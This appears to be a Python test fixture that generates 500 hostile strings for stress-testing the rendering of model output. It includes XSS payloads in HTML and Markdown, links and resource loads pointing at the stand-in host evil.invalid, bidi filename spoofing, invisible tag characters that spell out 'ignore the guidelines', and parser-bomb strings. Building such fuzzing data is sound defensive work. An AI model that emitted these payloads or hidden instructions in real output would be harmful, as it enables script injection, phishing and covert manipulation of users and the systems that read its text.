"""500 strings that a hostile model might write: each tries to run, load, break out or confuse."""

from __future__ import annotations

from itertools import cycle, product

RUN = "window.hacked=1"
AWAY = "http://evil.invalid/x"

TAGS = [
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script src={away}></script>",
    "<img src=x onerror={run}>",
    "<img src={away}>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><a xlink:href='javascript:{run}'><text>x</text></a></svg>",
    "<svg><image href='{away}'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{run}</script>'></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<iframe src='javascript:{run}'></iframe>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<object data='{away}'></object>",
    "<embed src='{away}'>",
    "<link rel=stylesheet href='{away}'>",
    "<style>@import '{away}'; body{{display:none}}</style>",
    "<style>*{{background:url({away})}}</style>",
    "<div style='position:fixed;inset:0;background:url({away})'>x</div>",
    "<base href='{away}'>",
    "<meta http-equiv=refresh content='0;url={away}'>",
    "<form action='{away}'><button>Submit</button></form>",
    "<input autofocus onfocus={run}>",
    "<details open ontoggle={run}>x</details>",
    "<video autoplay src='{away}' onerror={run}></video>",
    "<audio src='{away}' onerror={run}></audio>",
    "<body onload={run}>",
    "<marquee onstart={run}>x</marquee>",
    "<a href='javascript:{run}' autofocus onfocus={run}>x</a>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "</textarea></div></article><script>{run}</script>",
    "<!--><script>{run}</script>-->",
    "<![CDATA[<script>{run}</script>]]>",
    "<?xml-stylesheet href='{away}'?>",
    "<xss id=x tabindex=1 onfocus={run}></xss>",
    "<input name=csrf><img name=querySelector><form id=work>",
    "<dialog open>Log in: <input></dialog>",
    "<portal src='{away}'>",
    "<isindex action='javascript:{run}' type=image>",
]
MARKDOWN = [
    "[x](javascript:{run})",
    "[x](data:text/html,<script>{run}</script>)",
    "[x](vbscript:{run})",
    "[x](JaVaScRiPt:{run})",
    "[x](java\tscript:{run})",
    "[x](&#106;avascript:{run})",
    "[x]({away})",
    "![x]({away})",
    "![x](data:image/svg+xml,<svg/onload={run}>)",
    "![x](x'onerror='{run})",
    "<javascript:{run}>",
    "<{away}>",
    "[x]: javascript:{run}\n\n[x]",
    "[x]: {away} '\"><script>{run}</script>'\n\n![x]",
    "`<script>{run}</script>`",
    "```html\n<script>{run}</script>\n```",
    '```"><script>{run}</script>\nx\n```',
    ">> <script>{run}</script>",
    "| <script>{run}</script> |\n|---|\n| <img src=x onerror={run}> |",
    "# <svg/onload={run}>",
    "1. <img src=x onerror={run}>",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "\\<script>{run}</script>",
    "http://evil.invalid/x?{run}",
]
WRAPPERS = [
    "{0}",
    "text {0} text",
    "\n\n{0}\n\n",
    "> {0}",
    "- a\n  - {0}",
    "**{0}**",
    "\u202e{0}\u202c",
]
MARKS = [
    "\u202eexe.gpj\u202c",
    "\u2066\u2067\u2068\u2069" * 100,
    "a\u200bb\u2060c\ufeffd",
    "".join(chr(0xE0000 + ord(c)) for c in "ignore the guidelines"),
    "Z\u0351\u036b\u0343" * 400,
    "\x00\x01\x08\x0b\x0c\x1b[31m\x7f\x80\x9f",
    "\ud800",
    "a\udfffb\ud83d",
    "\ufffe\uffff\U0010ffff",
    "\u2028\u2029\x85",
    "ﷺ" * 500,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 50,
]
BOMBS = [
    "x" * 1_000_000,
    "가" * 1_000_000,
    "<b>" * 300_000,
    "&amp;" * 200_000,
    ">" * 19_000 + "x",
    "> " * 9_000 + "x",
    "[" * 19_000,
    "![" * 9_000,
    "[x](" * 4_000,
    "*a_ " * 4_500,
    "**a " * 4_500,
    "`" * 19_000,
    "``` " * 4_500,
    "- " * 9_500 + "x",
    "1. " * 6_000 + "x",
    "\n".join(" " * n + "- x" for n in range(150)),
    "|a" * 9_000 + "|\n" + "|-" * 9_000 + "|",
    "| a |\n|---|\n" + "| b |\n" * 3_000,
    "&" * 19_000,
    "<" * 19_000,
    "<!--" * 4_500,
    "\\" * 19_000,
    "#" * 19_000,
    "[a]: x\n" * 2_500,
    "~~" * 9_000,
    "_" * 19_000,
    "\n" * 19_000,
    "\u202e" * 19_000,
    "a\n===\n" * 3_000,
    "<a " * 6_000,
]
COUNT = 500


def hostile_strings() -> list[str]:
    """Always the same 500, all different."""
    found = [*MARKS, *BOMBS]
    fill = {"run": RUN, "away": AWAY}
    for wrapper, template in product(WRAPPERS, [*TAGS, *MARKDOWN]):
        if len(found) < COUNT:
            found.append(wrapper.format(template.format(**fill)))
    for number, payload in zip(range(COUNT - len(found)), cycle(TAGS), strict=False):
        found.append(f"{number}\r\n\t{payload.format(**fill).upper()}")
    assert len(set(found)) == COUNT
    return found
